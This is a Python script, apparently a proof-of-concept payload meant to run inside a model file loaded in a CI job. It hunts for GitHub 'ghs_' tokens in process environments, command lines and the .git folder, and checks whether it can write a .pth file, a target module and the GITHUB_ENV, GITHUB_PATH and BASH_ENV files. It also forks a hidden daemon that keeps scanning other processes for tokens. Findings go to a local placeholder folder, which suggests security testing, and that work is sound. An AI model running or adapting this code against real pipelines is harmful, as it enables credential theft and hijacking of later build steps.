"""Model code that looks for a token wherever a process of the same job might find one; put into a model."""

# ruff: noqa: PTH207 - patterns that begin anywhere
import glob
import os
import pathlib
import re
import sys

LOOT = pathlib.Path("LOOT_FOLDER")
TOKEN = re.compile("ghs_[A-Za-z0-9]+")
DAEMON = """
import glob, pathlib, re, time
until = time.time() + 120
while time.time() < until:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if re.search("ghs_[A-Za-z0-9]+", pathlib.Path(path).read_bytes().decode("latin-1")):
                (pathlib.Path("LOOT_FOLDER") / "found-later").write_text(path)
        except OSError:
            pass
"""
"""Waits for the steps after this one."""


def note(name: str, text: object) -> None:
    with (LOOT / name).open("a") as file:
        file.write(f"{text}\n")


def look(path: str | pathlib.Path) -> None:
    try:
        if TOKEN.search(pathlib.Path(path).read_bytes().decode("latin-1")):
            note("found", path)
    except OSError:
        pass


def write(path: str) -> None:
    try:
        with pathlib.Path(path).open("a"):
            note("wrote", path)
    except OSError:
        pass


(LOOT / "ran").touch()
if TOKEN.search(repr(dict(os.environ))):
    note("found", "own environment")
for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    look(file)
for file in pathlib.Path(".git").rglob("*"):
    look(file)
own = (str(pathlib.Path.cwd()), os.environ["TMPDIR"])  # no later step imports from there
for folder in [each for each in sys.path if each and not each.startswith(own)]:  # what later steps run
    for file in [*glob.glob(f"{folder}/coreml_gate*"), *glob.glob(f"{folder}/coreml_gate/*.py")]:
        write(file)
    write(f"{folder}/thief.pth")
for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "BASH_ENV"):
    if name in os.environ:
        write(os.environ[name])
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-I", "-c", DAEMON])
